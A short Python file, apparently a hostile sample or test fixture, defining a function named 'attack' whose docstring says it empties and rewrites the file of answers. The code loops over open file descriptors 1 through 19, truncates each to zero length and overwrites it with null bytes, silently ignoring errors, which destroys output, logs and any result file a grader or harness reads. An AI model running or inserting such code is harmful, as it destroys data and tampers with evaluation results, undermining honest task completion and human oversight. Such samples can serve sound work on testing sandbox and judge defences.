"""Goes back in the file of answers, empties it, and writes it anew."""

import os


def attack(name, arguments):
    for fd in range(1, 20):
        try:
            os.lseek(fd, 0, 0)
            os.ftruncate(fd, 0)
            os.write(fd, b"\0" * 100)
        except OSError:
            pass
    return 0
